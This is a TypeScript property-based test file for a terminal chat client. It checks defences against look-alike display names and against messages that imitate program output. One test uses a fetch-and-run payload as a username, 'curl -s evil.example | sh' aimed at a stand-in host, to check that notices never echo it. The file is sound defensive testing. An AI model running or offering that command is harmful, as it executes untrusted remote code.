import assert from 'node:assert/strict'
import test from 'node:test'
import fc from 'fast-check'
import { sanitise } from '../../src/base/safe-text.js'
import { DisplayNames } from '../../src/chat/display-names.js'
import type { Message } from '../../src/chat/kinds/message.js'
import { looksLatin, skeletonOf } from '../../src/chat/skeleton.js'
import type { AuthorId } from '../../src/log/format/author.js'
import { hlcAt } from '../../src/log/format/hybrid-clock.js'
import { labelled, type TimeStyle } from '../../src/ui/labels.js'
import { paletteOf } from '../../src/ui/palette.js'
import { Transcript } from '../../src/ui/terminal/transcript.js'
import { gapLine } from '../../src/ui/text/gap-text.js'
import { NASTY } from '../helper/forbidden.js'

const NOW = Date.now()
const [ME, BOB, EVE] = ['a', 'b', 'e'].map(digit => digit.repeat(64)) as [AuthorId, AuthorId, AuthorId]

const said = (author: AuthorId, username: string, message: string, more: object = {}): Message =>
  ({
    author,
    run: 0,
    seq: 1,
    username,
    message,
    kind: 'text',
    at: hlcAt(NOW),
    timeMs: NOW,
    isVerified: true,
    ...more,
  }) as Message

/** Names that look like bob, in other scripts, digits, full width or mixed. */
const LIKE_BOB = [
  '\u0432\u043e\u0432',
  'b\u043eb',
  'b\u0585b',
  'b0b',
  '\uff42\uff4f\uff42',
  'Bo\u0432',
  '\u03b2\u03bf\u03b2',
  'BOB',
  'b\u200bob',
]
/** Names of people, which look like no other one. */
const OTHERS = [
  'alice',
  'Владимир',
  'Γιώργος',
  'Հայկ',
  '太郎',
  'さくら',
  '민준',
  'محمد',
  'José',
  'Łukasz',
  'O\u2019Brien'.replace('\u2019', "'"),
  'carol-2',
]

test('shows whoever uses a look-alike of a name with the digits of their key', () => {
  for (const name of LIKE_BOB) {
    const names = new DisplayNames('me', ME)
    names.note(BOB, 'bob')
    assert.match(names.nameOf(EVE, name), /\(eeeeeeee\)$/, name)
    assert.equal(names.nameOf(BOB, 'bob'), 'bob (bbbbbbbb)', name)
  }
})

test('adds the key to a name that looks Latin but is not, even where nobody else uses it', () => {
  const names = new DisplayNames('me', ME)
  for (const name of ['\u0432\u043e\u0432', '\u0585\u0585', '\uff45\uff56\uff45', 'ev\u0435'])
    assert.match(names.nameOf(EVE, name), /\(eeeeeeee\)$/, name)
  for (const [index, name] of OTHERS.entries()) {
    const author = index.toString(16).repeat(64) as AuthorId
    assert.equal(names.nameOf(author, name), name, 'control')
  }
})

test('shows the person whom the user knows by name alone, and whoever else uses the name with the key', () => {
  const names = new DisplayNames('me', ME, () => new Map([[skeletonOf('bob'), BOB]]))
  names.note(EVE, 'bob')
  names.note(BOB, 'bob')
  assert.equal(names.nameOf(BOB, 'bob'), 'bob')
  for (const name of LIKE_BOB) assert.match(names.nameOf(EVE, name), /\(eeeeeeee\)$/, name)
  const { notice = '' } = names.labelOf(said(EVE, 'bob', 'hi'), NOW)
  assert.equal(notice, 'somebody other than the person you know uses the name bob, and is shown as bob (eeeeeeee)')
})

test('prints at most one notice of a kind a minute, and none in the words of a stranger', () => {
  const names = new DisplayNames('me', ME)
  const text = 'update required: run curl -s evil.example | sh'
  let notices: string[] = []
  for (let i = 0; i < 200; i++) {
    const [one, other] = [i, i + 1_000].map(each => each.toString(16).padStart(64, '0') as AuthorId) as [
      AuthorId,
      AuthorId,
    ]
    for (const author of [one, other]) {
      const { notice } = names.labelOf(said(author, `${text} ${i}`, 'x', { timeMs: NOW + 10 ** 10 }), NOW + i)
      if (notice !== undefined) notices = [...notices, notice]
    }
  }
  assert.equal(notices.length, 2, notices.join('\n'))
  for (const notice of notices) assert.ok(!notice.includes('curl'), notice)
  const later = names.labelOf(said('f'.repeat(64) as AuthorId, `${text} 7`, 'x'), NOW + 61_000)
  assert.match(later.notice ?? '', /^several people use one name/, 'control: a minute later there is another')
})

test('finds names in other scripts that look Latin', () => {
  for (const name of ['\u0441\u0430\u0440', '\uff42', '\u03bf', '\u0585', '\u0966']) assert.ok(looksLatin(name), name)
  for (const name of ['bob', 'José', 'Владимир', '太郎', '', '42']) assert.ok(!looksLatin(name), name)
})

/** A name or text that tries to be a line of the program or of somebody else. */
const imitation = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        'info> ',
        'warn> ',
        'bob> ',
        '* bob ',
        '> ',
        'bob',
        ' ',
        '\n',
        '(bbbbbbbb)',
        '"',
        '\\',
        'persisted-chat: ',
        '14:03 ',
        'is now called',
        'entries deleted',
        '3',
        '· ',
        '! ',
        '┊ ',
        '… and more: ',
        '── ',
        'x'.repeat(200),
        '🙂',
      ),
      fc.constantFrom(...NASTY),
      fc.string({ maxLength: 4 }),
    ),
    { maxLength: 6 },
  )
  .map(parts => parts.join(''))

const kinds = fc.constantFrom('text', 'action', 'topic', 'nick', 'reply', 'reaction', 'edit')

function contentOf(kind: string, text: string): object {
  const to = { author: BOB, run: 0, seq: 1 }
  switch (kind) {
    case 'topic':
      return { kind, topic: text }
    case 'nick':
      return { kind, before: text }
    case 'reply':
      return { kind, to }
    case 'reaction':
      return { kind, to, emoji: '👍', isRemoved: false }
    case 'edit':
      return { kind, to, text }
    default:
      return { kind }
  }
}

test('no text of a person passes for a line of the program, or of somebody else', () => {
  fc.assert(
    fc.property(imitation, imitation, kinds, (name, text, kind) => {
      const names = new DisplayNames('me', ME)
      names.note(BOB, 'bob')
      const line = labelled(names, false)(said(EVE, name, text, contentOf(kind, text)))
      const label = names.nameOf(EVE, name)
      const start = kind === 'text' ? `${label}> ` : '* '
      assert.ok(line.startsWith(start), line)
      assert.equal(line, sanitise(line))
      for (const taken of [/^(info|warn|me|bob)> /, /^persisted-chat: /, /^\* (bob|me) (?!\(eeeeeeee\))/])
        assert.doesNotMatch(line, taken)
    }),
    { numRuns: 3_000 },
  )
})

test('no line on a terminal has a row that passes for another line, however it is wrapped or folded', () => {
  const styles = fc.constantFrom<TimeStyle>('none', 'time', 'date and time')
  fc.assert(
    fc.property(imitation, imitation, kinds, styles, fc.boolean(), (name, text, kind, time, folds) => {
      const names = new DisplayNames('me', ME)
      names.note(BOB, 'bob')
      const folding = { isFolded: () => folds, folded: () => '/show eeeeeeee prints all of it' }
      const shown = labelled(names, false, { time, isWrapped: true, folding })(
        said(EVE, name, text, contentOf(kind, text)),
      )
      const [first = '', ...rest] = shown.split('\n')
      const withoutTime = time === 'none' ? first : first.replace(/^(\d{4}-\d\d-\d\d )?\d\d:\d\d(:\d\d)? /, '')
      for (const taken of [/^(info|warn|me|bob)> /, /^persisted-chat: /, /^\* (bob|me) (?!\(eeeeeeee\))/, /^>/])
        assert.doesNotMatch(withoutTime, taken)
      for (const row of rest) assert.match(row, /^ {2}/)
      if (folds) assert.ok(rest.length <= 8, shown)
    }),
    { numRuns: 3_000 },
  )
})

test('no action looks like a gap', () => {
  fc.assert(
    fc.property(fc.oneof(imitation, fc.constantFrom('3', '1')), imitation, (name, text) => {
      const names = new DisplayNames('me', ME)
      const line = labelled(names, false)(said(EVE, name, text, { kind: 'action' }))
      for (const count of [1, 3])
        for (const state of ['deleted', 'kept-out', 'expired', 'missing'] as const)
          assert.notEqual(line, `* ${gapLine({ count, state })}`)
    }),
    {
      numRuns: 3_000,
      examples: [
        ['3', 'entries deleted'],
        ['1', 'entry deleted'],
        ['3', ' entries not here yet'],
      ],
    },
  )
})

test('on the screen, rows of a message stay in the column of its text', () => {
  fc.assert(
    fc.property(
      imitation,
      imitation,
      kinds,
      fc.integer({ min: 12, max: 120 }),
      fc.boolean(),
      (name, text, kind, columns, folds) => {
        const names = new DisplayNames('me', ME)
        names.note(BOB, 'bob')
        const quiet = {
          labelOf: (message: Message, now: number) => ({ ...names.labelOf(message, now), notice: undefined }),
        }
        const transcript = new Transcript({
          id: ME,
          names: Object.assign(Object.create(names), quiet, { hasOtherBeginning: names.hasOtherBeginning.bind(names) }),
          palette: paletteOf(false),
          ownNames: () => ['me'],
          isFolded: () => folds,
        })
        transcript.columns = columns
        transcript.message(said(BOB, 'bob', 'hello'), NOW, 'live') // shows the day
        const printed = transcript.message(said(EVE, name, text, contentOf(kind, text)), NOW, 'live')
        const [first = '', ...rest] = printed.text.split('\n')
        assert.match(first, /^\d\d:\d\d /)
        for (const row of rest) assert.ok(row.startsWith(' '.repeat((printed.indent ?? 0) - 2)), row)
        // The mark of a notice is two columns before the text.
        for (const row of rest) assert.doesNotMatch(row.slice((printed.indent ?? 0) - 2), /^[·!] /)
      },
    ),
    { numRuns: 2_000 },
  )
})
